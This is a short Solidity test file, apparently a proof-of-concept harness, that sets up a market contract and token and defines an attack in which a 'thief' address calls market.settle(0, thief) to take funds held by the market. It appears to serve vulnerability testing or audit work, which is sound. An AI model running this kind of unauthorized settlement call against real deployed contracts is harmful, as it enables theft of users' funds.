// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.17;

import {LossTest} from "primacy/LossTest.sol";
import {Setup, vm} from "./Setup.sol";

contract Proof is LossTest, Setup {
    function setUp() public {
        deploy();
    }

    function fundsToken() internal view override returns (address) {
        return address(token);
    }

    function fundsHolders() internal view override returns (address[] memory holders) {
        holders = new address[](1);
        holders[0] = address(market);
    }

    function attack() internal override {
        vm.prank(thief);
        market.settle(0, thief);
    }
}
